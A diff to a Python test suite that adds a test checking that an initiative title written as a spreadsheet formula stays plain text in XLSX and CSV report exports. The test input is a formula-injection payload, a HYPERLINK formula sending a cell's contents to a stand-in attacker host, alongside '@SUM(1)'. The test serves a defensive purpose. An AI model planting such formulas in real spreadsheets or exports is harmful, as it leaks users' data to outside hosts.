@@ -180,6 +180,23 @@ def test_text_that_looks_like_a_formula_stays_text(chain):
     assert cell.data_type == "s" and cell.value == '=HYPERLINK("http://x","y")'
 
 
+def test_an_initiative_titled_as_a_formula_stays_text_in_xlsx_and_csv(chain):
+    hostile = '=HYPERLINK("http://angriber.example/?x="&B2;"Se tal")'
+    chain.kids.title = hostile
+    chain.kids.save()
+    StatusUpdate.objects.create(
+        initiative=chain.kids, date="2025-07-01", status="i_gang", light="groen", narrative="@SUM(1)"
+    )
+    book = load_workbook(io.BytesIO(report(chain, "xlsx")))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert hostile in [c.value for c in cells] and "@SUM(1)" in [c.value for c in cells]
+    text = report(chain, "csv").decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+    assert "'" + hostile in cells and "'@SUM(1)" in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
+
+
 def test_hostile_text_stays_inside_the_page(chain):
     long_word = "Ø" * 400
     chain.kids.title = "Børneindsatsen " + long_word
